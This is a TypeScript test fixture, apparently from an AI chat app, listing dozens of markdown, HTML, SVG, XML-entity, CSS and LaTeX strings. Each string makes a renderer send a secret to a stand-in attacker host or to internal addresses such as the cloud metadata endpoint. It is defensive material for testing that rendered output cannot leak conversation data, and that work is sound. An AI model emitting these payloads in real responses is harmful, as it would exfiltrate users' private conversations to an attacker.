import { STRANGER } from './hostile-diagrams'

/** What was said in confidence, as an address that would carry it out. */
const AT = `http://${STRANGER}/?q=secret`

const IMAGES = [
  `![x](${AT})`,
  `![x](<${AT}> "title")`,
  `![${AT}](${AT})`,
  `[![x](${AT}&i=link)](${AT})`,
  `![x][exfiltrate]\n\n[exfiltrate]: ${AT}`,
  `![exfiltrate]\n\n[exfiltrate]: <${AT}> 'x'`,
  `![x](//${STRANGER}/protocol-relative.png)`,
  `![x](\\\\\\\\${STRANGER}\\share\\x.png)`,
  `![x](file://${STRANGER}/share/x.png)`,
  `![x](smb://${STRANGER}/share/x.png)`,
  `![x](HTTP://${STRANGER}/upper.PNG)`,
  `![x](http:${STRANGER}/x.png)`,
  `![x](http://127.0.0.1:1/x.png)`,
  `![x](http://[::1]/x.png)`,
  `![x](http://169.254.169.254/latest/meta-data)`,
  `![x](ftp://${STRANGER}/x.png)`,
  `![x](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${AT}'/%3E%3C/svg%3E)`,
  `![x](blob:${AT})`,
  `![x](app://nagare/../../conversations.db)`,
  `| ![x](${AT}) |\n|---|\n| ![y](${AT}&cell) |`,
  `> [!NOTE]\n> ![x](${AT})`,
  `- [ ] ![x](${AT})`,
  `# ![x](${AT})`,
  `word[^leak]\n\n[^leak]: ![x](${AT}&footnote)`,
  `Term ![x](${AT})\n: ![y](${AT}&definition)`,
]

const ELEMENTS = [
  `<img src="${AT}">`,
  `<img srcset="${AT} 1x, ${AT}&2 2x">`,
  `<img lowsrc="${AT}" dynsrc="${AT}">`,
  `<picture><source srcset="${AT}"><img src=x></picture>`,
  `<video poster="${AT}"><source src="${AT}"><track src="${AT}"></video>`,
  `<audio src="${AT}" autoplay></audio>`,
  `<input type="image" src="${AT}">`,
  `<body background="${AT}">`,
  `<table background="${AT}"><td background="${AT}">x</table>`,
  `<link rel="prefetch" href="${AT}"><link rel="preconnect" href="${AT}"><link rel="dns-prefetch" href="${AT}">`,
  `<link rel="icon" href="${AT}"><link rel="manifest" href="${AT}"><link rel="modulepreload" href="${AT}">`,
  `<style>@import url(${AT});</style>`,
  `<style>body { background: url(${AT}) } @font-face { font-family: x; src: url(${AT}) }</style>`,
  `<div style="background-image: image-set('${AT}' 1x); list-style: url(${AT}); cursor: url(${AT}), auto">x</div>`,
  `<div style="content: url(${AT}); border-image: url(${AT}); mask: url(${AT}#m); filter: url(${AT}#f)">x</div>`,
  `<svg><image href="${AT}"/><image xlink:href="${AT}"/></svg>`,
  `<svg><use href="${AT}#x"/><feImage href="${AT}"/><style>@import "${AT}";</style></svg>`,
  `<svg><rect fill="url(${AT}#g)"/><animate attributeName="href" values="${AT}"/></svg>`,
  `<iframe src="${AT}"></iframe><frame src="${AT}"><frameset><frame src="${AT}"></frameset>`,
  `<iframe srcdoc="<img src='${AT}'>"></iframe>`,
  `<object data="${AT}"></object><embed src="${AT}"><applet archive="${AT}"></applet>`,
  `<fencedframe></fencedframe><portal src="${AT}"></portal>`,
  `<meta http-equiv="refresh" content="0;url=${AT}">`,
  `<base href="${AT}"><a href="x">x</a>`,
  `<form action="${AT}" id="f"><input name="q" value="secret"></form><button form="f">x</button>`,
  `<a href="https://example.com" ping="${AT}">x</a>`,
  `<a href="${AT}" download>x</a>`,
  `<script>new Image().src='${AT}'</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${AT}"]}]}</script>`,
  `<img src=x onerror="fetch('${AT}')">`,
  `<img src=x onerror="navigator.sendBeacon('${AT}')">`,
  `<img src=x onerror="new WebSocket('ws://${STRANGER}')">`,
  `<img src=x onerror="new EventSource('${AT}')">`,
  `<img src=x onerror="open('${AT}')">`,
  `<img src=x onerror="bridge.ask('loadImage',{address:'${AT}'})">`,
  `<math><mglyph src="${AT}"/><maction actiontype="statusline#${AT}" xlink:href="${AT}">x</maction></math>`,
]

const FENCES = [
  `\`\`\`html\n<!doctype html><script>fetch('${AT}')</script><img src="${AT}">\n\`\`\``,
  `\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${AT}')"><image href="${AT}"/></svg>\n\`\`\``,
  `\`\`\`xml\n<!DOCTYPE x [<!ENTITY e SYSTEM "${AT}">]><x>&e;</x>\n\`\`\``,
  `\`\`\`css\n@import url(${AT});\n* { background: url(${AT}) }\n\`\`\``,
  `\`\`\`jsx\nexport default () => <img src="${AT}" onError={() => fetch('${AT}')} />\n\`\`\``,
  `\`\`\`artifact\n<iframe src="${AT}"></iframe>\n\`\`\``,
  `<antArtifact identifier="x" type="text/html"><script>fetch('${AT}')</script></antArtifact>`,
  `<details open><summary>x</summary>\n\n![x](${AT})\n\n</details>`,
]

const FORMULAS = [
  `$\\includegraphics{${AT}}$`,
  `$\\includegraphics[height=1em,alt=x]{${AT}}$`,
  `$$\n\\href{${AT}}{\\includegraphics{${AT}}}\n$$`,
  `$\\url{${AT}}$ and $\\htmlStyle{background:url(${AT})}{x}$`,
]

/** Texts that try to carry what was said to a host of the attacker, by being shown. */
export const EXFILTRATION_TEXTS: readonly string[] = [
  ...IMAGES,
  ...ELEMENTS,
  ...ELEMENTS.map((element) => `text ${element} and ~~${element}~~`),
  ...FENCES,
  ...FORMULAS,
]
